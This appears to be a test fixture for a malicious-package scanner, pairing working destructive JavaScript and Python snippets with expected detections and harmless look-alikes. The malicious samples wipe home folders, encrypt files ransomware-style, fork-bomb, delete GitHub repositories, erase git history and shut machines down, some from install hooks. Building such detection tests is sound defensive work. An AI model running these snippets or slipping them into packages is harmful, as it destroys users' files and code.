import type { Samples } from '../contract.ts';
import { at, HOOK_LINE, hide, hooked, imported, installed, MODULES, quiet, wheel } from '../samples-kit.ts';

export const samples: Samples = {
  malicious: [
    {
      name: 'a home folder, entry by entry, by a function',
      files: imported(
        `const fs = require('fs'), os = require('os'), path = require('path');\nexports.tidy = () => {\n  for (const name of fs.readdirSync(os.homedir())) fs.rmSync(path.join(os.homedir(), name), { recursive: true });\n};\n`,
      ),
      expected: [at('wipe', 'high', 'index.js', 3)],
    },
    {
      name: 'what a pattern finds in the home folder',
      files: imported(
        `const { globSync } = require('glob'), fs = require('fs'), os = require('os');\nfor (const file of globSync('**/*', { cwd: os.homedir(), absolute: true })) fs.unlinkSync(file);\n`,
      ),
      expected: [at('wipe', 'high', 'index.js', 2)],
    },
    {
      name: 'documents that a pattern finds',
      files: imported(
        `const glob = require('fast-glob'), fs = require('fs'), os = require('os');\nexports.tidy = async () => {\n  const files = await glob(os.homedir() + '/**/*.{pdf,docx}');\n  await Promise.all(files.map((file) => fs.promises.unlink(file)));\n};\n`,
      ),
      expected: [at('wipe', 'high', 'index.js', 4)],
    },
    {
      name: 'Python: documents, wherever they lie',
      files: wheel("from pathlib import Path\nfor path in Path.home().rglob('*.docx'):\n    path.unlink()\n"),
      expected: [{ rule: 'wipe', file: 'own/__init__.py', line: 3, severity: 'critical' }],
    },
    {
      name: 'files that only somebody else can open',
      files: imported(
        `const fs = require('fs'), crypto = require('crypto');\nconst KEY = '-----BEGIN PUBLIC KEY-----\\nMFww\\n-----END PUBLIC KEY-----';\nexports.seal = (path) => {\n  const key = crypto.randomBytes(32);\n  const c = crypto.createCipheriv('aes-256-ctr', key, crypto.randomBytes(16));\n  fs.writeFileSync(path + '.x', Buffer.concat([crypto.publicEncrypt(KEY, key), c.update(fs.readFileSync(path))]));\n  fs.unlinkSync(path);\n};\n`,
      ),
      expected: [at('overwrite', 'high', 'index.js', 7)],
    },
    {
      name: 'processes without end',
      files: imported(
        `const { fork } = require('child_process');\nexports.load = () => {\n  for (;;) fork(__filename);\n};\n`,
      ),
      expected: [at('hang', 'high', 'index.js', 3)],
    },
    {
      name: 'the repositories of an account',
      files: imported(
        `const { Octokit } = require('@octokit/rest');\n(async () => {\n  const kit = new Octokit({ auth: process.env.GITHUB_TOKEN });\n  const { data } = await kit.rest.repos.listForAuthenticatedUser();\n  for (const repo of data) await kit.rest.repos.delete({ owner: repo.owner.login, repo: repo.name });\n})();\n`,
      ),
      expected: [at('repositories', 'high', 'index.js', 5)],
    },
    {
      name: 'Python: the branches of a repository, by a wrapper of git in a thread',
      files: wheel(
        "import subprocess, threading\ndef git(*words):\n    return subprocess.run(('git', *words), capture_output=True, text=True).stdout\ndef sweep():\n    git('checkout', '--orphan', 'clean')\n    for name in git('branch', '--list').split():\n        git('push', '-q', '--force', 'origin', f'clean:{name}')\n    git('reflog', 'expire', '--expire=now', '--all')\nthreading.Thread(target=sweep).start()\n",
      ),
      expected: [{ rule: 'repositories', file: 'own/__init__.py', line: 3, severity: 'high' }],
    },
    {
      name: 'Python: a past that nothing brings back',
      files: wheel(
        "import os\nos.system('git -C .. update-ref -d HEAD && git reflog expire --expire=now --all && git gc --prune=now')\n",
      ),
      expected: [{ rule: 'repositories', file: 'own/__init__.py', line: 2, severity: 'high' }],
    },
    {
      name: 'Python: the repository of the folder in which a program was started',
      files: wheel(
        "import os, shutil\nshutil.rmtree(os.path.join(os.getcwd(), '.git'), ignore_errors=True)\n",
      ),
      expected: [{ rule: 'repositories', file: 'own/__init__.py', line: 2, severity: 'high' }],
    },
    {
      name: 'Python: repositories that a pattern finds',
      files: wheel(
        "import glob, subprocess\nfor found in glob.glob('../**/.git', recursive=True):\n    subprocess.run(['rm', '-rf', found])\n",
      ),
      expected: [{ rule: 'repositories', file: 'own/__init__.py', line: 3, severity: 'high' }],
    },
    {
      name: 'the tags and branches of a project, when a package is installed',
      files: installed(
        `const { execFileSync } = require('child_process');\nconst git = (...words) => execFileSync('git', words, { cwd: process.env.INIT_CWD });\ngit('push', '--mirror', '--force', 'origin');\n`,
      ),
      expected: [at('repositories', 'high', 'setup.js', 2)],
    },
    {
      name: 'a note on the desktop',
      files: imported(
        `const fs = require('fs'), os = require('os'), path = require('path');\nfs.writeFileSync(path.join(os.homedir(), 'Desktop', 'READ.txt'), 'Stop it.');\n`,
      ),
      expected: [at('note', 'high', 'index.js', 2)],
    },
    {
      name: 'Python: all files of the home folder, one by one',
      files: wheel(
        'import os\nfrom pathlib import Path\ndef clean():\n    for at, _, names in os.walk(Path.home()):\n        for name in names:\n            os.remove(os.path.join(at, name))\n',
      ),
      expected: [{ rule: 'wipe', file: 'own/__init__.py', line: 6, severity: 'high' }],
    },
    {
      name: 'Python: what an object was told to sweep, by the entries of that folder',
      files: wheel(
        "import os, shutil\nclass Sweeper:\n    def __init__(self, root, group):\n        self.root, self.group = root, group\n    def run(self):\n        for entry in os.scandir(self.root):\n            shutil.rmtree(entry.path)\nSweeper(os.path.expanduser('~/Documents'), 'all').run()\n",
      ),
      expected: [{ rule: 'wipe', file: 'own/__init__.py', line: 7, severity: 'high' }],
    },
    {
      name: 'Python: a rule that a table holds by its name',
      files: wheel(
        "import os, shutil\nRULES = {}\ndef rule(function):\n    RULES[function.__name__] = function\n    return function\n@rule\ndef everything(root):\n    for name in os.listdir(root):\n        shutil.rmtree(os.path.join(root, name))\nRULES['everything'](os.environ['HOME'])\n",
      ),
      expected: [{ rule: 'wipe', file: 'own/__init__.py', line: 9, severity: 'high' }],
    },
    {
      name: 'Python: what a pattern finds among the documents',
      files: wheel(
        "import glob, os\nfor path in glob.glob(os.path.expanduser('~/Documents') + '/*'):\n    os.remove(path)\n",
      ),
      expected: [{ rule: 'wipe', file: 'own/__init__.py', line: 3, severity: 'critical' }],
    },
    {
      name: 'Python: all that the home folder lists, in one call',
      files: wheel(
        'import shutil\nfrom pathlib import Path\nlist(map(shutil.rmtree, Path.home().iterdir()))\n',
      ),
      expected: [{ rule: 'wipe', file: 'own/__init__.py', line: 3, severity: 'high' }],
    },
    {
      name: 'Python: the home folder, entry by entry, by a command',
      files: wheel(
        "import os, subprocess\nhome = os.path.expanduser('~')\nfor name in os.listdir(home):\n    subprocess.run(['rm', '-rf', os.path.join(home, name)])\n",
      ),
      expected: [{ rule: 'wipe', file: 'own/__init__.py', line: 4, severity: 'high' }],
    },
    {
      name: 'Python: a function that writes over what is in the home folder',
      files: wheel(
        "from pathlib import Path\ndef heal():\n    for path in Path.home().rglob('*'):\n        path.write_text('x')\n",
      ),
      expected: [{ rule: 'overwrite', file: 'own/__init__.py', line: 4, severity: 'high' }],
    },
    {
      name: 'Python: files that are encrypted where they lie',
      files: wheel(
        "import os\nfrom cryptography.fernet import Fernet\nkey = Fernet(Fernet.generate_key())\nfor at, _, names in os.walk(os.path.expanduser('~')):\n    for name in names:\n        path = os.path.join(at, name)\n        text = open(path, 'rb').read()\n        open(path, 'wb').write(key.encrypt(text))\n",
      ),
      expected: [{ rule: 'overwrite', file: 'own/__init__.py', line: 8, severity: 'high' }],
    },
    {
      name: 'Python: a home folder that a function deletes',
      files: wheel("import os, shutil\ndef clean():\n    shutil.rmtree(os.path.expanduser('~'))\n"),
      expected: [{ rule: 'wipe', file: 'own/__init__.py', line: 3, severity: 'high' }],
    },
    {
      name: 'the home folder from the shell',
      files: hooked('rm -rf "$HOME"/*'),
      expected: [at('wipe', 'critical', 'package.json', HOOK_LINE)],
    },
    {
      name: 'the home folder by code',
      files: installed(
        `const fs = require('fs');\nfs.rmSync(require('os').homedir(), { recursive: true, force: true });\n`,
      ),
      expected: [at('wipe', 'critical', 'setup.js', 2)],
    },
    {
      name: "Windows' way, by a started command",
      files: imported(`require('child_process').exec('del /F /Q /S "%USERPROFILE%\\\\*"');\n`),
      expected: [at('wipe', 'critical', 'index.js', 1)],
    },
    {
      name: 'overwritten by a module, where another one says that the machine stands in a certain place',
      files: imported(
        `const { all, change } = require('./files.js');\nconst { place } = require('./place.js');\nconst todo = [() => {}, (dir) => all(dir).forEach((file) => change(file, (text) => text.replace(/\\w/g, 'x')))];\nsetTimeout(() => todo[place](process.cwd()), 1000);\n`,
        {
          'files.js': `const fs = require('fs'), path = require('path');\nexports.all = (dir) => fs.readdirSync(dir).map((name) => path.join(dir, name));\nexports.change = (file, make) => fs.writeFileSync(file, make(fs.readFileSync(file, 'utf8')));\n`,
          'place.js': `const { timeZone } = Intl.DateTimeFormat().resolvedOptions();\nexports.place = Number(timeZone.startsWith('Mars/'));\n`,
        },
      ),
      expected: [at('overwrite', 'high', 'files.js', 3)],
    },
    {
      name: 'overwritten where the machine stands in a certain place',
      files: imported(
        `const fs = require('fs'), https = require('https');\nfunction work(dir) {\n  for (const name of fs.readdirSync(dir)) fs.writeFile(dir + name, 'x', () => {});\n}\nhttps.get('https://geo.weir.test/?key=country_name', (res) => res.on('data', (d) => {\n  if (String(JSON.parse(d)['country_name']).includes('x')) { work('../../'); work(Buffer.from('${hide('/')}', 'base64').toString()); }\n}));\n`,
      ),
      expected: [at('overwrite', 'high', 'index.js', 3)],
    },
    {
      name: 'a loop without an end',
      files: imported(
        `let i = 666;\nfor (; i < Infinity; i++) {\n  if (i % 333) continue;\n  console.log('x');\n}\n`,
      ),
      expected: [at('hang', 'high', 'index.js', 2)],
    },
    {
      name: 'the machine switched off',
      files: installed(`require('child_process').execSync('sudo shutdown -h now');\n`),
      expected: [at('shutdown', 'high', 'setup.js', 1)],
    },
  ],
  benign: [
    quiet(
      'own files that are set up when it is installed, by the language of the machine',
      installed(
        `const fs = require('fs'), path = require('path');\nconst { locale } = Intl.DateTimeFormat().resolvedOptions();\nconst dir = path.join(__dirname, 'texts');\nfor (const name of fs.readdirSync(dir)) {\n  const file = path.join(dir, name);\n  fs.writeFileSync(file, fs.readFileSync(file, 'utf8').replace('LOCALE', locale));\n}\n`,
      ),
    ),
    quiet(
      'files that a caller names, beside what asks for the zone of the machine',
      imported(
        `const { all, change } = require('./files.js');\nexports.zone = Intl.DateTimeFormat().resolvedOptions().timeZone;\nexports.stamp = (dir) => all(dir).forEach((file) => change(file, (text) => text + exports.zone));\n`,
        {
          'files.js': `const fs = require('fs'), path = require('path');\nexports.all = (dir) => fs.readdirSync(dir).map((name) => path.join(dir, name));\nexports.change = (file, make) => fs.writeFileSync(file, make(fs.readFileSync(file, 'utf8')));\n`,
        },
      ),
    ),
    quiet(
      'a list that one module of a bundle writes, a home folder that others name, and countries',
      imported(
        `const fs = require('fs'), os = require('os');\nfunction copy(dir) { for (const name of fs.readdirSync(dir)) fs.writeFile(dir + name, 'x', () => {}); }\ncopy(__dirname);\n${MODULES}exports.home = os.homedir();\nexports.zones = ['timezone', '/'];\nexports.news = () => fetch('https://news.weir.test/').then((answer) => answer.text());\n`,
      ),
    ),
    quiet(
      'the cache of the package, entry by entry',
      imported(
        `const fs = require('fs'), os = require('os'), path = require('path');\nconst own = path.join(os.homedir(), '.cache', 'own');\nexports.tidy = () => {\n  for (const name of fs.readdirSync(own)) fs.rmSync(path.join(own, name), { recursive: true });\n};\n`,
      ),
    ),
    quiet(
      'what patterns find in its own folders, and old logs in the home folder',
      imported(
        `const { globSync } = require('glob'), fs = require('fs'), os = require('os');\nexports.clean = (cwd) => {\n  for (const file of globSync('**/*', { cwd })) fs.unlinkSync(file);\n  for (const file of globSync('.own/**/*', { cwd: os.homedir() })) fs.unlinkSync(file);\n  for (const file of globSync(os.homedir() + '/*.log')) fs.unlinkSync(file);\n};\n`,
      ),
    ),
    quiet(
      'a sealed copy of a file',
      imported(
        `const fs = require('fs'), crypto = require('crypto');\nexports.seal = (path, pub) => {\n  const key = crypto.randomBytes(32);\n  const c = crypto.createCipheriv('aes-256-ctr', key, crypto.randomBytes(16));\n  fs.writeFileSync(path + '.x', Buffer.concat([crypto.publicEncrypt(pub, key), c.update(fs.readFileSync(path))]));\n};\n`,
      ),
    ),
    quiet(
      "a process for each processor, and one of somebody's repositories",
      imported(
        `const { fork } = require('child_process'), os = require('os');\nexports.load = () => {\n  for (let i = 0; i < os.cpus().length; i++) fork(__filename);\n};\nexports.drop = (kit, owner, repo) => kit.rest.repos.delete({ owner, repo });\n`,
      ),
    ),
    quiet(
      'a report on the desktop, when asked for',
      imported(
        `const fs = require('fs'), os = require('os'), path = require('path');\nexports.save = (text) => fs.writeFileSync(path.join(os.homedir(), 'Desktop', 'report.txt'), text);\n`,
      ),
    ),
    quiet(
      'Python: old files of its own cache, one by one',
      wheel(
        "import os\nfrom pathlib import Path\ndef clean():\n    for at, _, names in os.walk(Path.home() / '.cache' / 'own'):\n        for name in names:\n            os.remove(os.path.join(at, name))\n",
      ),
    ),
    quiet(
      'Python: a hook for each repository below the home folder, when asked for',
      wheel(
        "import os\ndef keep():\n    for at, names, _ in os.walk(os.path.expanduser('~')):\n        if '.git' in names:\n            with open(os.path.join(at, '.pre-commit-config.yaml'), 'w') as out:\n                out.write('repos: []')\n",
      ),
    ),
    quiet(
      'Python: what building left in a folder that somebody names, and old logs of its own',
      wheel(
        "import glob, os, shutil, sys\ndef clean(root):\n    for name in os.listdir(root):\n        if name.endswith('.pyc'):\n            os.remove(os.path.join(root, name))\n    for path in glob.glob(os.path.expanduser('~/.own/logs/*.log')):\n        os.remove(path)\ndef main():\n    clean(sys.argv[1])\n",
      ),
    ),
    quiet(
      'Python: branches that are merged, and pages that are published, when asked for',
      wheel(
        "import subprocess, sys\ndef git(*words):\n    return subprocess.run(['git', *words], capture_output=True, text=True).stdout\ndef sweep(remote):\n    for name in git('branch', '--merged', 'main').split():\n        git('branch', '-D', name)\n        git('push', '-q', '--delete', remote, name)\ndef publish():\n    git('checkout', '--orphan', 'gh-pages')\n    git('push', '--force', 'origin', 'gh-pages')\ndef main():\n    sweep(sys.argv[1])\nif __name__ == '__main__':\n    main()\n",
      ),
    ),
    quiet('Python: a tool beside the package that drops a reference of its own', {
      ...wheel('VERSION = 1\n'),
      'tools/sync.py':
        "import subprocess\ndef drop(name):\n    subprocess.run(['git', 'update-ref', '-d', name])\ndrop('refs/sync/last')\n",
    }),
    quiet(
      'Python: what git is asked when a module is loaded, and a clone that loses its past in a function',
      wheel(
        "import shutil, subprocess\nVERSION = subprocess.run(['git', 'describe', '--tags'], capture_output=True).stdout\nsubprocess.run(['git', 'fetch', '--prune', '--force'])\ndef template(url, to):\n    subprocess.run(['git', 'clone', url, to])\n    shutil.rmtree(to + '/.git')\n",
      ),
    ),
    quiet(
      'pages that a program publishes',
      imported(
        `const { execSync } = require('child_process');\nexecSync('git checkout --orphan gh-pages');\nexports.publish = () => execSync('git push --force origin gh-pages');\n`,
      ),
    ),
    quiet(
      'Python: a search through the home folder',
      wheel(
        'from pathlib import Path\ndef find(name):\n    return [path for path in Path.home().rglob(name) if path.is_file()]\n',
      ),
    ),
    quiet(
      'Python: a list of files that a function writes',
      wheel(
        "import os\ndef index(folder):\n    with open('index.txt', 'w') as out:\n        for name in os.listdir(folder):\n            out.write(name)\n",
      ),
    ),
    quiet(
      'Python: a package of ciphers that writes its files under another name',
      wheel(
        "import os\nfrom Crypto import SelfTest\nSelfTest.run()\nfor at, _, names in os.walk('lib'):\n    for name in names:\n        path = os.path.join(at, name)\n        text = open(path).read().replace('Crypto.', 'Own.')\n        open(path, 'w').write(text)\n",
      ),
    ),
    quiet('its own build folder', hooked('rm -rf ./dist build/*')),
    quiet(
      'a temporary folder',
      installed(
        `const fs = require('fs'), os = require('os'), path = require('path');\nfs.rmSync(path.join(os.tmpdir(), 'x'), { recursive: true });\n`,
      ),
    ),
    quiet(
      'a loop that ends',
      imported(
        `let n = 0;\nwhile (true) {\n  if (n++ > 3) break;\n}\nexports.run = function* () { for (;;) yield 1; };\n`,
      ),
    ),
    quiet('a server that waits when called', imported(`exports.spin = () => { while (true) {} };\n`)),
    quiet(
      'a formatter that rewrites files',
      imported(
        `const fs = require('fs');\nexports.format = (dir) => fs.readdirSync(dir).forEach((name) => fs.writeFileSync(dir + '/' + name, fs.readFileSync(dir + '/' + name)));\n`,
      ),
    ),
  ],
};
